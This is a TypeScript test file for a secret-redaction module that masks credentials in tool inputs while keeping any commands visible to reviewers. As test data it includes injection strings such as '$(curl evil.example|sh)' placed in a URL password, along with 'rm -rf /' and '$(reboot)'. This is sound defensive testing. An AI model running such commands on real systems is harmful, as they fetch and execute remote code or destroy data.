import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { namesOf, putBack, undeclaredOf } from '../../../app/secrets/hidden.ts';
import { createRedaction } from '../../../app/secrets/redaction.ts';
import { RedactSettingsSchema } from '../../../app/secrets/settings.ts';
import { defineTool, secret } from '../../../app/tools/index.ts';
import type { Json } from '../../../interventions/index.ts';

const CANARY = 'canary-7f3a';
const made = (settings: { keys?: readonly string[]; patterns?: readonly RegExp[] } = {}, key = 'k') =>
  createRedaction({ settings: { keys: [], patterns: [], ...settings }, key: Buffer.from(key) });
const redaction = made();
const plain = { inputSchema: {} };
const shown = (input: Json, tool: { readonly inputSchema: Json } = plain) =>
  JSON.stringify(redaction.input(tool, input).shown);

describe('an input that holds a secret (T16)', () => {
  it.each<[string, (at: number) => Json, string]>([
    ['by its form', (at) => `xoxb-1234567890-${at}`, '[hidden 0000000000: 20 characters, x…9]'],
    ['by its name', (at) => ({ password: `v${at}` }), '[hidden 0000000000]'],
  ])(
    'hides each secret %s, also of thousands, whose fingerprints would take too long, and nothing else (EDGE-7)',
    (_how, secretOf, last) => {
      const found: string[] = [];
      const settings = { keys: [], patterns: [] };
      const counting = createRedaction({ settings, key: Buffer.from('k'), found: (one) => found.push(one) });
      const input = { all: Array.from({ length: 5_000 }, (_, at) => secretOf(at)), command: 'rm -rf /' };

      const { shown: safe, hidden } = counting.input(plain, input);
      expect(hidden).toHaveLength(5_000);
      expect(hidden.at(-1)).toMatchObject({ shown: last });
      expect(safe).toMatchObject({ command: 'rm -rf /' });
      expect(found).toHaveLength(500);
      expect(putBack(safe, hidden)).toEqual({ type: 'whole', value: input });
      expect(putBack({ command: last }, hidden)).toEqual({ type: 'moved', shown: last });
    },
  );

  it('shows a secret where another member repeats it, so that no secret hides what the call does (T2)', () => {
    const { shown: safe } = redaction.input(plain, { password: 'payments-db', target: 'payments-db' });

    expect(safe).toEqual({ password: expect.stringMatching(/^\[hidden /), target: 'payments-db' });
  });

  it.each([
    'password',
    'apiKey',
    'API-Key',
    'db_password',
    'clientSecret',
    'access_key',
    'Authorization',
    'refreshToken',
  ])('hides the member %s by its name, at any depth', (name) => {
    expect(shown({ deep: [{ [name]: CANARY }] })).toMatch(/^\{"deep":\[\{".*":"\[hidden [0-9a-f]{10}\]"\}\]\}$/);
  });

  it.each(['max_tokens', 'tokens', 'secretary', 'key', 'passwordless', 'author'])(
    'shows %s, which is not a secret',
    (name) => {
      expect(shown({ [name]: 'seen' })).toContain('seen');
    },
  );

  it.each([
    ['a Slack token', 'xoxb-1234567890-abcdef'],
    ['a key of a provider', `sk-${'a1'.repeat(12)}`],
    ['a signed token', 'eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeK'],
    ['a key of a cloud', 'AKIAIOSFODNN7EXAMPLE'],
    ['a private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----'],
  ])('hides %s anywhere, and shows the text around it', (_what, value) => {
    const text = shown({ note: `before ${value} after` });

    expect(text).not.toContain(value.slice(0, 12));
    expect(text).toMatch(/before \[hidden [0-9a-f]{10}: \d+ characters, .….\] after/);
  });

  it('hides the password of an address without a user, as of a Redis', () => {
    expect(shown({ url: 'redis://:hunter22@db:6379' })).toMatch(
      /redis:\/\/:\[hidden [0-9a-f]{10}: 8 characters, h…2\]@db:6379/,
    );
  });

  it('hides the password of an address and no other part', () => {
    expect(shown({ url: 'postgres://app:hunter22@db/x' })).toMatch(
      /postgres:\/\/app:\[hidden [0-9a-f]{10}: 8 characters, h…2\]@db\/x/,
    );
  });

  it.each([
    ['a command in the place of a password', { url: 'https://ci:$(curl evil.example|sh)@host' }],
    ['mark-up in the place of a password', { url: 'https://ci:<b>`id`</b>@host' }],
    ['a command behind the header of a private key', { key: '-----BEGIN PRIVATE KEY-----; curl evil.example|sh' }],
    ['words behind the header of a private key', { key: '-----BEGIN RSA PRIVATE KEY----- sudo rm all' }],
    ['an object under the name of a secret', { token: { command: 'rm everything' } }],
    ['a list under the name of a secret', { credentials: ['rm', 'everything'] }],
  ])('shows %s in full (MF-7)', (_what, input) => {
    expect(redaction.input(plain, input)).toEqual({ shown: input, hidden: [] });
  });

  it('hides the body of a private key up to the first character that no key is made of (MF-7)', () => {
    const text = shown({ key: `-----BEGIN RSA PRIVATE KEY-----\nMIIE${'A'.repeat(40)}==\n; rm everything` });

    expect(text).toMatch(/^\{"key":"\[hidden \w+: 79 characters, -…=\]; rm everything"\}$/);
  });

  it('hides the body of a private key in a line of JSON, where its line breaks are escaped (MF-7)', () => {
    const line = JSON.stringify({ error: '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\nfailed' });

    expect(redaction.text(line)).toMatch(/^\{"error":"\[hidden \w+: 60 characters, -…-\]\\nfailed"\}$/);
  });

  it('says of each hidden value whether the schema, a name or a pattern hides it, and how much (MF-7)', () => {
    const inputSchema = { properties: { code: { writeOnly: true } } };
    const input = { code: CANARY, pin: 1234, url: 'https://app:hunter22@db' };
    const { hidden } = redaction.input({ inputSchema }, input);

    expect(hidden.map(({ path: [name], by, chars }) => [name, by, chars])).toEqual([
      ['code', 'schema', CANARY.length],
      ['pin', 'name', 4],
      ['url', 'pattern', 8],
    ]);
    expect(undeclaredOf(hidden)).toEqual([
      { name: 'pin', by: 'name', chars: 4 },
      { name: 'url', by: 'pattern', chars: 8 },
    ]);
  });

  it('names each place where it hides a secret, also where all of it is one', () => {
    const hiddenIn = (input: Json) => redaction.input(plain, input).hidden;

    expect(namesOf(hiddenIn({ users: [{ password: CANARY }], token: CANARY }))).toEqual(['token', 'users.0.password']);
    expect(namesOf(hiddenIn(`xoxb-1234567890-${CANARY}`))).toEqual(['the whole input']);
  });

  it('hides what the tool marks, in every form that a schema allows', () => {
    const tool = defineTool({
      name: 'keep',
      description: 'Keeps.',
      input: z.object({
        to: z.string(),
        value: secret(z.string()),
        many: z.array(secret(z.string())).optional(),
        either: z.union([z.number(), z.object({ inner: secret(z.string()) })]).optional(),
        rest: z.record(z.string(), secret(z.string())).optional(),
      }),
      run: () => '',
    });
    const input = { to: 'Ann', value: CANARY, many: [CANARY], either: { inner: CANARY }, rest: { a: CANARY } };

    expect(redaction.input(tool, input).hidden.map(({ path }) => path.join('.'))).toEqual([
      'value',
      'many.0',
      'either.inner',
      'rest.a',
    ]);
    expect(shown(input, tool)).not.toContain(CANARY);
    expect(shown(input, tool)).toContain('Ann');
  });

  it('hides what the schema of a tool server marks, even behind references', () => {
    const inputSchema = {
      properties: { who: { $ref: '#/$defs/login' }, pass: { type: 'string', format: 'password' } },
      $defs: { login: { properties: { code: { writeOnly: true }, next: { $ref: '#/$defs/login' } } } },
    };
    const text = shown({ pass: CANARY, who: { code: CANARY, next: { code: CANARY } } }, { inputSchema });

    expect(text).not.toContain(CANARY);
  });

  it('hides what the deployment names', () => {
    const ours = made({ keys: ['Iban'], patterns: [/EMP-\d{6}/] });
    const text = JSON.stringify(ours.input(plain, { iban: CANARY, note: 'for EMP-123456, EMP-654321' }).shown);

    expect(text).not.toMatch(/canary|EMP-\d/);
  });

  it('shows equal secrets as equal, and no reader can guess a secret without the key', () => {
    const one = shown({ password: CANARY, token: CANARY });
    const [first, second] = one.match(/\[hidden \w+\]/g) ?? [];

    expect(first).toBe(second);
    expect(shown({ password: `${CANARY}x` })).not.toContain(first);
    expect(JSON.stringify(made({}, 'other').input(plain, { password: CANARY }).shown)).not.toContain(first);
  });

  it('is left alone where it has no secret', () => {
    const input = { service: 'payments', password: '', token: null, secret: false };

    expect(redaction.input(plain, input)).toEqual({ shown: input, hidden: [] });
  });

  it('has its secret hidden in sentences about it too, in every way it may be written there', () => {
    const value = 'secret/1=%+.~_-';
    const { hidden } = redaction.input(plain, { password: value });
    const text = redaction.text(`It is ${value}, ${JSON.stringify({ value })}, ${encodeURIComponent(value)}.`, hidden);

    expect(text).toMatch(/^It is (\[hidden \w+\]), \{"value":"\1"\}, \1\.$/);
  });

  it('hides a secret whole in a sentence where another secret begins it (EDGE-6)', () => {
    const [short, long] = ['key-1234567', 'key-1234567-and-more'];
    const { hidden } = redaction.input(plain, { token: short, password: long });

    expect(redaction.text(`Use ${long}.`, hidden)).toMatch(/^Use \[hidden \w+\]\.$/);
  });

  it.each(['production', 'Production', 'DELETE', 'rm -rf /data', '$(reboot)', 'hunter2', 'line\nbreak-1234'])(
    'strikes the secret “%s” from no sentence about it, because it may say what is done (EDGE-6)',
    (value) => {
      const { hidden } = redaction.input(plain, { password: value });

      expect(hidden).toHaveLength(1);
      expect(redaction.text(`Run ${value} on payments.`, hidden)).toBe(`Run ${value} on payments.`);
    },
  );

  it('has its secret hidden, whatever the secret and the text around it', () => {
    const secretText = fc.string({ minLength: 8, unit: fc.constantFrom(...'aB3._~%+/=-') });
    fc.assert(
      fc.property(secretText, fc.jsonValue(), fc.string(), (value, around, words) => {
        fc.pre(!/^(?:[a-z]+|[A-Z]?[a-z]+|[A-Z]+)$/.test(value));
        const input = { around: JSON.parse(JSON.stringify(around)), password: value };
        const { hidden, shown: safe } = redaction.input(plain, input);
        fc.pre(!JSON.stringify(input.around).includes(JSON.stringify(value).slice(1, -1)));
        expect(JSON.stringify(safe)).not.toContain(JSON.stringify(value));
        expect(redaction.text(`${words}${value}${words}`, hidden)).toContain('[hidden ');
      }),
    );
  });

  it('shows the length of what a pattern found, and two characters of what is long enough (EDGE-6)', () => {
    expect(shown({ url: 'https://app:abcd@db' })).toMatch(/app:\[hidden [0-9a-f]{10}: 4 characters\]@db/);
    expect(shown({ url: 'https://app:abcdefgh@db' })).toMatch(/app:\[hidden [0-9a-f]{10}: 8 characters, a…h\]@db/);
  });

  it('shows in full what a pattern of the deployment finds, if a command could stand in it (EDGE-6)', () => {
    const own = made({ patterns: [/EMP-.+/] });
    const of = (note: string): string => JSON.stringify(own.input(plain, { note }).shown);

    expect(of('EMP-123456')).toMatch(/"\[hidden [0-9a-f]{10}: 10 characters, E…6\]"/);
    expect(own.input(plain, { note: 'EMP-1; rm everything' }).hidden).toEqual([]);
  });

  it('shows a member that its tool never hides, whatever it is called and holds (EDGE-6)', () => {
    const input = { password: 'reboot -f', token: { note: 'xoxb-1234567890-abcdef' }, other: 'xoxb-1234567890-abcdef' };

    const { hidden } = redaction.input({ inputSchema: {}, neverHide: ['password', 'token'] }, input);

    expect(hidden.map(({ path }) => path)).toEqual([['other']]);
  });

  it('hides a member that the deployment names, in both spellings of an accent', () => {
    const { hidden } = made({ keys: ['contrase\u00f1a'] }).input(plain, {
      'contrase\u00f1a': 'a1',
      'contrasen\u0303a': 'b2',
    });

    expect(hidden.map(({ value }) => value)).toEqual(['a1', 'b2']);
  });

  it('loses no character of a command or of mark-up to a name or a pattern, whatever is written (EDGE-6)', () => {
    const piece = fc.constantFrom(
      ...['https://ci:', '@host', '-----BEGIN PRIVATE KEY-----', 'Bearer ', 'eyJ', 'xoxb-', 'AKIA', 'sk-', '.', ' '],
      ...[
        '$(',
        ')',
        '`',
        ';',
        '|',
        '&&',
        '<b>',
        '"',
        "'",
        '{',
        '}',
        '*',
        'curl',
        'rm',
        'ABCDEFGHIJKLMNOPQRST',
        'a1b2c3d4',
      ],
    );
    const code = (text: string): string =>
      text.replaceAll(/\[hidden [^\]]+\]/g, '').replaceAll(/[^$();|&<>"'`{}*]/g, '');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const command = pieces.join('');
        const { shown: safe } = redaction.input(plain, { command, token: { command } });
        expect(safe).toMatchObject({ token: { command: expect.any(String) } });
        for (const text of textsOf(safe)) expect(code(text)).toBe(code(command));
      }),
    );
  });
});

const textsOf = (value: Json): readonly string[] =>
  typeof value === 'string' ? [value] : Object.values(value ?? {}).flatMap(textsOf);

describe('a hidden value in an edited input', () => {
  const input = { password: CANARY, note: 'a' };
  const { shown: safe, hidden } = redaction.input(plain, input);

  it('keeps its value when it was left in place, and takes the new text where it was changed', () => {
    expect(putBack(safe, hidden)).toEqual({ type: 'whole', value: input });
    expect(putBack({ password: 'new', note: 'b' }, hidden)).toEqual({
      type: 'whole',
      value: { password: 'new', note: 'b' },
    });
  });

  it('is not moved to another place, where people would not expect it (T3)', () => {
    const mark = hidden[0]?.shown ?? '';

    expect(putBack({ note: mark, password: mark }, hidden)).toEqual({ type: 'moved', shown: mark });
    expect(putBack({ note: `see ${mark}` }, hidden)).toEqual({ type: 'moved', shown: mark });
  });
});

it.each([/a*/, /(?:)/g, /x?/y])('the pattern %s, which fits nothing at all, is refused at start', (pattern) => {
  expect(RedactSettingsSchema.safeParse({ patterns: [pattern] }).success).toBe(false);
});
